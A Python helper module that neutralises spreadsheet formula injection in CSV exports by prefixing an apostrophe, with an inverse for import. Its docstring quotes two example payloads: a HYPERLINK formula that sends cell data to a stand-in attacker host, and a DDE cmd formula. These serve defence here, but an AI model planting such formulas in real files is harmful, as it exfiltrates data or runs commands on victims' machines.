"""CSV cells a spreadsheet will not run: one helper for every CSV a person opens.

Why: Excel and LibreOffice treat a cell starting with ``=``, ``+``, ``-`` or ``@`` (and, after
a tab or carriage return, the same) as a formula, so a case note reading
``=HYPERLINK("http://evil.example/?"&A1, "open")`` or ``=cmd|' /c calc'!A1`` typed into the web
form would run on the manager's machine that opens today's CSV (OWASP "CSV injection").
Such a cell gets a leading apostrophe, which spreadsheets show as text; a plain number
(``-3`` working days overdue) is left alone, since no number is a formula.

The canonical export (``icsflow export``), which ``icsflow import`` reads back, is written the
same way, and the import takes the apostrophe off again (``restore_cell``): the two are exact
inverses, so a value that really starts with an apostrophe before one of those characters
survives a round trip too (it gets a second apostrophe on the way out).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any, TypeVar

_T = TypeVar("_T")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")


def _needs_quote(text: str) -> bool:
    bare = text.lstrip("'")
    return bare[:1] in TRIGGERS and bare != "" and not _NUMBER.match(bare)


def safe_cell(value: _T) -> _T | str:
    """``value`` as a spreadsheet shows it as text: a string that a spreadsheet would read as
    a formula gets a leading apostrophe; anything else is returned unchanged."""
    if isinstance(value, str) and _needs_quote(value):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def restore_cell(value: _T) -> _T | str:
    """The inverse of ``safe_cell`` (what ``icsflow import`` applies to CSV cells)."""
    if isinstance(value, str) and value.startswith("'") and _needs_quote(value):
        return value[1:]
    return value


__all__ = ["safe_cell", "safe_row", "restore_cell", "TRIGGERS"]
